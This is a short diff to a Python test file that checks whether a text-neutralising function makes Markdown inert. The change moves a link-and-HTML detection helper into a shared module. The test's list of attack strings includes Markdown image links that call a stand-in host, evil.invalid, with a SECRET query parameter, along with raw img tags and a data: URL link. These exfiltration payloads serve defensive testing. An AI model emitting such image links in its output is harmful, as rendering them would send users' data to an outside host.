@@ -4,8 +4,8 @@ import pytest
 from markdown_it import MarkdownIt
 
 from sourcebook_core.text import inert
+from tests.injection.viewer import live_in
 
-LIVE = {"link_open", "image", "html_inline", "html_block"}
 VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 ATTACKS = [
     "![x](http://evil.invalid/?q=SECRET)",
@@ -20,14 +20,6 @@ ATTACKS = [
     "`![x](http://evil.invalid)` ``<img src=x>",
     "> ![x](http://evil.invalid)\n\n- <img src=x>\n    1. [y](data:text/html,x)",
 ]
-
-
-def live_in(text: str) -> list[str]:
-    """The links, pictures and HTML that a viewer would make of it."""
-    found = []
-    for token in VIEWER.parse(text):
-        found += [one.type for one in (token, *(token.children or ())) if one.type in LIVE]
-    return found
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
